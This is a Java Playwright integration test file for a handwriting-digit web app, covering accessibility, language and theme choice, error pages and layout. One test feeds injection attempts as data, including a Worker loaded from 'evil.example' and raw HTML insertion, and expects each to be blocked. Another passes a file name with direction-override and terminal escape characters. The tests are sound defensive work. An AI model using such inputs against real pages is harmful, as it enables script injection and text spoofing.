package backprop.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.assertions.LocatorAssertions;
import com.microsoft.playwright.options.ColorScheme;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@ExtendWith(Lab.class)
class FrameIT {
    @ParameterizedTest
    @ValueSource(strings = {"/?lang=en&theme=light", "/draw/?lang=zh&theme=dark"})
    void noPageHasAnAccessibilityViolation(String address, Visitor visitor) {
        check(visitor.open(address), address);
        check(visitor.openOnPhone(address), address + " on a phone");
    }

    private static void check(Page page, String where) {
        assertThat(page.locator("#prediction")).not().hasText("–");
        Axe.requireNoViolation(page, where);
        assertEquals(
                0,
                page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth"),
                where + " is too wide");
    }

    @Test
    void theHomePageReadsADigitAtOnce(Visitor visitor) {
        Page page = visitor.open("/?lang=en");
        assertThat(page.locator("#prediction")).hasText("5");
        Hand.mouse(page).draw(new Handwriting(3).strokes(0));
        assertThat(page.locator("#prediction")).hasText("0");
        page.locator("main a[href*=draw]").first().click();
        assertThat(page.locator("h1")).hasText("Draw");
    }

    @Test
    void everyTextIsThereInBothLanguages(Visitor visitor) {
        for (String path : List.of("/", "/draw/")) {
            Page page = visitor.open(path + "?lang=zh");
            assertThat(page.locator("#prediction")).not().hasText("–");
            for (String text : page.locator("[data-text]").allTextContents()) {
                assertFalse(text.isBlank() || text.matches("[a-z]+(\\.[a-z-]+)+"), path + ": " + text);
            }
        }
    }

    @Test
    void theBrowsersLanguageComesFirstAndTheChoiceIsKept(Visitor visitor) {
        Page page = visitor.open("/draw/", new Browser.NewContextOptions().setLocale("zh-CN"));
        assertThat(page.locator("h1")).hasText("手写");
        page.locator("#language").click();
        assertThat(page.locator("h1")).hasText("Draw");
        page.navigate(visitor.address() + "/draw/");
        assertThat(page.locator("h1")).hasText("Draw");
        page.navigate(visitor.address() + "/draw/?lang=zh");
        assertThat(page.locator("h1")).hasText("手写");
    }

    @Test
    void theThemeFollowsTheSystemUntilOneIsChosen(Visitor visitor) {
        Page page = visitor.open("/", new Browser.NewContextOptions().setColorScheme(ColorScheme.DARK));
        assertThat(page.locator("html")).hasAttribute("data-theme", "dark");
        page.emulateMedia(new Page.EmulateMediaOptions().setColorScheme(ColorScheme.LIGHT));
        assertThat(page.locator("html")).hasAttribute("data-theme", "light");
        page.navigate(visitor.address() + "/?theme=dark");
        assertThat(page.locator("html")).hasAttribute("data-theme", "dark");
    }

    @Test
    void aWrongAddressGetsAPageThatLeadsHome(Visitor visitor) {
        Page page = visitor.open("/no/such/page?lang=en");
        assertThat(page.locator("h1")).hasText("There is no page here");
        page.locator("main a").first().click();
        assertThat(page).hasURL(Pattern.compile("/(\\?lang=en)?$"));
        visitor.expectComplaint("404");
    }

    /** Whatever a later mistake puts into such a place, it does not run. */
    @Test
    void noTextBecomesMarkupAndNoForeignAddressAWorker(Visitor visitor) {
        Page page = visitor.open("/?lang=en");
        for (String attempt : List.of(
                "document.body.innerHTML = '<b>x</b>'",
                "document.querySelector('main').insertAdjacentHTML('beforeend', '<b>x</b>')",
                "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
                "new Worker('workers/script.js')",
                "new Worker(backprop.worker('https://evil.example/x.js'))",
                "new Worker(backprop.worker('data:text/javascript,1'))",
                "trustedTypes.createPolicy('another', {})")) {
            assertEquals(
                    "TypeError",
                    page.evaluate("attempt => { try { " + attempt
                            + "; return 'it is done'; } catch (refusal) { return refusal.name; } }"),
                    attempt);
        }
        visitor.expectComplaint("Trusted");
    }

    /** A file's name could turn the sentence around that tells of it, and kilobytes of it fill the page. */
    @Test
    void whatASentenceIsToldOfAFileIsShownAsItIs(Visitor visitor) {
        Page page = visitor.open("/?lang=en");
        assertEquals(
                "Engine: net\\u202e\\u001b[31m\\u000a.safetensors",
                page.evaluate("backprop.text('footer.engine', 'net\\u202e\\u001b[31m\\n.safetensors')"));
        assertEquals(509, page.evaluate("backprop.text('footer.engine', 'x'.repeat(100000)).length"));
    }

    @ParameterizedTest
    @CsvSource({"en, Licences (Apache-2.0)", "zh, 许可证（Apache-2.0）"})
    void theFooterLeadsToTheLicences(String language, String words, Visitor visitor) {
        Page page = visitor.open("/draw/?lang=" + language);
        page.locator(".site-footer a").getByText(words).click();
        assertThat(page.locator("body")).containsText("SIL OPEN FONT LICENSE");
    }

    @Test
    void withoutScriptsThePageSaysWhatIsMissing(Visitor visitor) {
        Page page = visitor.open("/draw/", new Browser.NewContextOptions().setJavaScriptEnabled(false));
        assertThat(page.locator(".no-script")).isVisible();
        assertThat(page.locator("h1")).hasText("Draw");
    }

    /** As a laptop's window is below its browser's bars: the steps of the graph were out of sight. */
    @ParameterizedTest
    @CsvSource({"1366, 600", "1024, 640"})
    void whatLeadsALabIsInSightInALowWindow(int width, int height, Visitor visitor) {
        Browser.NewContextOptions low = new Browser.NewContextOptions().setViewportSize(width, height);
        Map.of("/draw/", "#upload", "/graph/?preset=softmax-with-loss&step=20", "#step-forward", "/train/", "#start")
                .forEach((path, button) -> assertThat(visitor.open(path, low).locator(button))
                        .isInViewport(new LocatorAssertions.IsInViewportOptions().setRatio(1)));
    }
}
